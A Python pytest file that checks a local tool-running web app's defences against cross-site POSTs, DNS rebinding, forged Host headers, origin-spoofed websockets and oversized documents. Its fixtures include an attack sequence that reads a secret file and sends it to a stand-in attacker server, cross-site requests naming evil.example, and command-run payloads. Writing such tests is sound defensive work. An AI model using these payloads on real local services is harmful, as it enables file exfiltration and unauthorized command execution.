"""The attacks of a web page on the default app (127.0.0.1, no token), against the real app over HTTP.

A browser sends requests to 127.0.0.1 for any page the person visits: "simple" cross-site POSTs
(`text/plain`, no preflight), and, once the page's DNS name points at 127.0.0.1, requests with that
name as their Host (DNS rebinding). Each test sends what such a page would, checks the refusal, and
proves that nothing ran: no run, no answer, no marker file, no request to the attacker's server.
"""

from __future__ import annotations

import asyncio
import json
import socket
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
import websockets
from support.app import RunningApp
from support.waiting import wait_until_sync

EVIL = "http://evil.example"
T = 15.0


def tools(*calls: dict[str, Any]) -> str:
    return "".join(json.dumps(c) + " ;" for c in calls)


@pytest.fixture(scope="module")
def http(seqdesk_app: RunningApp) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=seqdesk_app.base_url, timeout=T) as client:
        yield client


@pytest.fixture
def collector() -> Iterator[list[str]]:
    """An "attacker's" web server on this machine: the paths it was asked for."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    hits.append(f"http://127.0.0.1:{server.server_address[1]}")  # hits[0]: its address
    try:
        yield hits
    finally:
        server.shutdown()


def runs(http: httpx.Client) -> list[dict[str, Any]]:
    return http.get("/api/runs").json()


def pending(http: httpx.Client) -> list[dict[str, Any]]:
    return http.get("/api/interactions", params={"status": "pending"}).json()


def asked_in(http: httpx.Client, run_id: str) -> list[dict[str, Any]]:
    return [i for i in pending(http) if i["request"]["turn_id"] == run_id]


def exfiltrating_document(secret: Path, collector_url: str) -> dict[str, Any]:
    return {"name": "steal", "groups": [
        {"name": "steal-read", "in": {}, "out": {"data": "string"},
         "tools": tools({"tool": "file_read", "args": {"path": str(secret)}, "as": "data"})},
        {"name": "steal-send", "in": {"data": "string"}, "out": {},
         "tools": tools({"tool": "http_get", "args": {"url": f"{collector_url}/?d=$args.data"}})}]}


def test_a_simple_cross_site_post_of_a_run_is_refused_and_nothing_runs(http, tmp_path, collector):
    secret = tmp_path / "secret.txt"
    secret.write_text("the person's secret")
    body = json.dumps({"document": exfiltrating_document(secret, collector[0]), "args": {}})
    before = len(runs(http))
    plain = http.post("/api/runs", content=body, headers={"Content-Type": "text/plain", "Origin": EVIL})
    assert plain.status_code == 403 and "another site" in plain.json()["error"]
    no_origin = http.post("/api/runs", content=body, headers={"Content-Type": "text/plain"})
    assert no_origin.status_code == 415 and "must be JSON" in no_origin.json()["error"]
    form = http.post("/api/runs", content=body, headers={"Content-Type": "application/x-www-form-urlencoded",
                                                          "Origin": "null"})
    assert form.status_code == 403
    assert len(runs(http)) == before
    assert collector[1:] == []


def test_a_cross_site_post_cannot_overwrite_a_saved_sequence(http):
    saved = {"name": "keep-me", "groups": [{"name": "keep-me-g", "in": {}, "out": {},
                                            "tools": tools({"tool": "echo", "args": {"value": "original"}})}]}
    assert http.post("/api/sequences", json=saved).status_code in (200, 201)
    evil = {**saved, "groups": [{**saved["groups"][0], "tools": tools({"tool": "cmd_run",
                                                                        "args": {"command": "id"}})}]}
    for headers in ({"Content-Type": "text/plain", "Origin": EVIL}, {"Content-Type": "text/plain"},
                    {"Content-Type": "application/json", "Origin": EVIL}):
        answer = http.post("/api/sequences", content=json.dumps(evil), headers=headers)
        assert answer.status_code in (403, 415), headers
        assert "error" in answer.json()
    kept = http.get("/api/sequences/keep-me").json()
    assert "original" in kept["groups"][0]["tools"] and "cmd_run" not in kept["groups"][0]["tools"]


def test_a_rebound_host_can_neither_read_nor_answer_requests(http, seqdesk_app, tmp_path):
    marker = tmp_path / "rebound-ran"
    doc = {"name": "rebind", "groups": [{"name": "rebind-g", "in": {}, "out": {},
                                         "tools": tools({"tool": "cmd_run", "args": {"command": f"touch {marker}"}})}]}
    run_id = http.post("/api/runs", json={"document": doc, "args": {}}).json()["run_id"]
    waiting = wait_until_sync(lambda: asked_in(http, run_id), "the approval request", timeout=T)
    iid = waiting[0]["interaction_id"]
    port = seqdesk_app.base_url.rsplit(":", 1)[1]
    rebound = {"Host": f"evil.example:{port}"}
    for method, path in (("GET", "/api/interactions"), ("GET", "/"), ("GET", "/inbox"), ("GET", "/api/events"),
                         ("GET", "/_nicegui_ws/socket.io/?EIO=4&transport=polling")):
        answer = http.request(method, path, headers=rebound)
        assert answer.status_code == 421, path
        assert "does not answer to the host" in answer.json()["error"]
    answer = http.post(f"/api/interactions/{iid}/respond", headers=rebound,
                       json={"kind": "approval", "decision": "approved", "always_allow": True})
    assert answer.status_code == 421
    assert [i["interaction_id"] for i in pending(http) if i["request"]["turn_id"] == run_id] == [iid]
    assert not marker.exists()
    assert http.post(f"/api/runs/{run_id}/stop").json() == {"stopped": True}


def raw_request(base_url: str, head: str, body: dict[str, Any] | None = None) -> int:
    """Send `head` (request line and headers) and a JSON body over a plain socket; the answer's status."""
    port = int(base_url.rsplit(":", 1)[1])
    data = json.dumps(body).encode() if body is not None else b""
    with socket.create_connection(("127.0.0.1", port), timeout=T) as sock:
        sock.sendall(head.replace("\n", "\r\n").encode() + b"Content-Type: application/json\r\n"
                     + f"Content-Length: {len(data)}\r\nConnection: close\r\n\r\n".encode() + data)
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    return int(answer.split(b" ", 2)[1])


def test_two_hosts_or_a_request_line_naming_another_host_cannot_answer_a_request(http, seqdesk_app, tmp_path):
    marker = tmp_path / "request-line-ran"
    doc = {"name": "line", "groups": [{"name": "line-g", "in": {}, "out": {},
                                       "tools": tools({"tool": "cmd_run", "args": {"command": f"touch {marker}"}})}]}
    run_id = http.post("/api/runs", json={"document": doc, "args": {}}).json()["run_id"]
    iid = wait_until_sync(lambda: asked_in(http, run_id), "the approval request", timeout=T)[0]["interaction_id"]
    port = seqdesk_app.base_url.rsplit(":", 1)[1]
    yes = {"kind": "approval", "decision": "approved", "always_allow": True}
    respond = f"/api/interactions/{iid}/respond"
    assert raw_request(seqdesk_app.base_url, f"POST {respond} HTTP/1.1\nHost: evil.example:{port}\n"
                                             f"Host: 127.0.0.1:{port}\n", yes) == 400
    assert raw_request(seqdesk_app.base_url, f"POST http://evil.example:{port}{respond} HTTP/1.1\n"
                                             f"Host: 127.0.0.1:{port}\n", yes) == 421
    assert [i["interaction_id"] for i in asked_in(http, run_id)] == [iid]
    assert not marker.exists()
    assert http.post(f"/api/runs/{run_id}/stop").json() == {"stopped": True}


async def test_the_pages_socket_io_websocket_opens_at_once_and_a_stranger_is_refused_at_once(seqdesk_app):
    port = int(seqdesk_app.base_url.rsplit(":", 1)[1])
    path = "/_nicegui_ws/socket.io/?EIO=4&transport=websocket"
    started = time.monotonic()
    async with websockets.connect(f"ws://127.0.0.1:{port}{path}", origin=websockets.Origin(seqdesk_app.base_url),
                                  open_timeout=T) as ws:
        opened = await asyncio.wait_for(ws.recv(), T)  # engine.io's open packet
        await ws.send("40")  # join socket.io's namespace
        joined = await asyncio.wait_for(ws.recv(), T)
    assert opened.startswith("0{") and joined.startswith("40{")
    assert time.monotonic() - started < 1.0
    for connect, status in (
            ({"uri": f"ws://127.0.0.1:{port}{path}", "origin": websockets.Origin(EVIL)}, 403),
            ({"uri": f"ws://evil.example:{port}{path}", "host": "127.0.0.1", "port": port}, 421)):
        started = time.monotonic()
        with pytest.raises(websockets.InvalidStatus) as refused:
            await websockets.connect(**connect, open_timeout=T)
        assert refused.value.response.status_code == status
        assert time.monotonic() - started < 1.0


def test_an_answer_is_strict_a_string_is_not_a_yes(http, tmp_path):
    marker = tmp_path / "coerced-ran"
    doc = {"name": "strict", "groups": [{"name": "strict-g", "in": {}, "out": {},
                                         "tools": tools({"tool": "cmd_run", "args": {"command": f"touch {marker}"}})}]}
    run_id = http.post("/api/runs", json={"document": doc, "args": {}}).json()["run_id"]
    iid = wait_until_sync(lambda: asked_in(http, run_id), "the request", timeout=T)[0]["interaction_id"]
    for bad in ({"kind": "approval", "decision": "approved", "always_allow": "yes"},
                {"kind": "approval", "decision": "approved", "always_allow": 1}):
        answer = http.post(f"/api/interactions/{iid}/respond", json=bad)
        assert answer.status_code == 422, bad
    assert [i["interaction_id"] for i in pending(http) if i["request"]["turn_id"] == run_id] == [iid]
    assert not marker.exists()
    http.post(f"/api/runs/{run_id}/stop")


def test_after_always_allow_a_blind_cross_site_post_still_runs_nothing(http, tmp_path):
    marker = tmp_path / "blind-ran"
    allowed = tmp_path / "allowed-ran"
    doc = {"name": "allow", "groups": [{"name": "allow-g", "in": {}, "out": {},
                                        "tools": tools({"tool": "cmd_run", "args": {"command": f"touch {allowed}"}})}]}
    run_id = http.post("/api/runs", json={"document": doc, "args": {}}).json()["run_id"]
    iid = wait_until_sync(lambda: asked_in(http, run_id), "the request", timeout=T)[0]["interaction_id"]
    assert http.post(f"/api/interactions/{iid}/respond",
                     json={"kind": "approval", "decision": "approved", "always_allow": True}).status_code == 200
    wait_until_sync(lambda: http.get(f"/api/runs/{run_id}").json()["status"] == "succeeded", "the allowed run",
                    timeout=T)
    assert allowed.exists()
    before = len(runs(http))
    blind = {"document": {"name": "blind", "groups": [{"name": "blind-g", "in": {}, "out": {}, "tools": tools(
        {"tool": "cmd_run", "args": {"command": f"touch {marker}"}})}]}, "args": {}}
    answer = http.post("/api/runs", content=json.dumps(blind), headers={"Content-Type": "text/plain",
                                                                         "Origin": EVIL})
    assert answer.status_code == 403
    assert len(runs(http)) == before and not marker.exists()


def test_a_local_program_reading_and_sending_a_file_is_asked_first(http, tmp_path, collector):
    secret = tmp_path / "secret.txt"
    secret.write_text("the person's secret")
    answer = http.post("/api/runs", json={"document": exfiltrating_document(secret, collector[0]), "args": {}})
    assert answer.status_code == 202
    run_id = answer.json()["run_id"]
    asked = wait_until_sync(lambda: asked_in(http, run_id), "the read request", timeout=T)[0]
    assert asked["request"]["source"]["tool_name"] == "file_read"
    assert asked["request"]["summary"] == f"Read the file {secret}"
    assert http.post(f"/api/interactions/{asked['interaction_id']}/respond",
                     json={"kind": "approval", "decision": "denied"}).status_code == 200
    record = wait_until_sync(lambda: (r := http.get(f"/api/runs/{run_id}").json())["finished_at"] and r,
                             "the run's end", timeout=T)
    assert record["status"] == "failed"
    assert collector[1:] == []  # nothing reached the other server


def test_the_socket_of_the_pages_answers_only_the_apps_own_origin(http, seqdesk_app):
    handshake = "/_nicegui_ws/socket.io/?EIO=4&transport=polling"
    evil = http.get(handshake, headers={"Origin": EVIL})
    assert evil.status_code == 403
    assert "access-control-allow-credentials" not in evil.headers
    own = http.get(handshake, headers={"Origin": seqdesk_app.base_url})
    assert own.status_code == 200
    assert own.headers.get("access-control-allow-origin") in (None, seqdesk_app.base_url)


def test_an_upload_or_a_page_post_from_another_site_is_refused(http):
    for path in ("/_nicegui/client/c1/upload/5", "/"):
        answer = http.post(path, content=b"x", headers={"Origin": EVIL, "Content-Type": "multipart/form-data"})
        assert answer.status_code == 403, path


def test_a_huge_invalid_document_is_answered_briefly_and_the_app_keeps_answering(http):
    # within the size limits (1,000 groups, 2 MB), with several errors in every group
    groups = [{"name": f"g{i}", "description": "d" * 1500, "in": "", "out": "", "tools": '{"tool":"nope","as":"x"}'}
              for i in range(1000)]
    body = json.dumps({"name": "huge", "groups": groups})
    assert 1_000_000 < len(body) < 2 * 1024 * 1024
    result: dict[str, Any] = {}

    def post() -> None:
        result["answer"] = http.post("/api/sequences", content=body, headers={"Content-Type": "application/json"})

    poster = threading.Thread(target=post)
    poster.start()
    healthy = 0
    while poster.is_alive():
        healthy += http.get("/api/health").status_code == 200
    poster.join()
    answer = result["answer"]
    assert answer.status_code == 422
    assert len(answer.content) < 200_000
    assert answer.json()["errors_total"] > 100 and len(answer.json()["errors"]) == 100
    assert healthy >= 3  # health checks were answered while the document was being validated


def test_a_document_over_the_size_limits_is_refused_with_one_sentence_naming_the_limit(http):
    groups = [{"name": f"g{i}", "in": "", "out": "", "tools": '{"tool":"nope","as":"x"}'} for i in range(15000)]
    answer = http.post("/api/sequences", content=json.dumps({"name": "huge", "groups": groups}),
                       headers={"Content-Type": "application/json"})
    assert answer.status_code == 422
    [error] = answer.json()["errors"]
    assert error["code"] == "too-many-groups" and "1000" in error["message"].replace(",", "")
    too_big = http.post("/api/sequences", content=json.dumps({"name": "big", "description": "d" * (3 << 20)}),
                        headers={"Content-Type": "application/json"})
    assert too_big.status_code == 413 and "2 MB" in too_big.json()["detail"]
    assert http.get("/api/health").status_code == 200
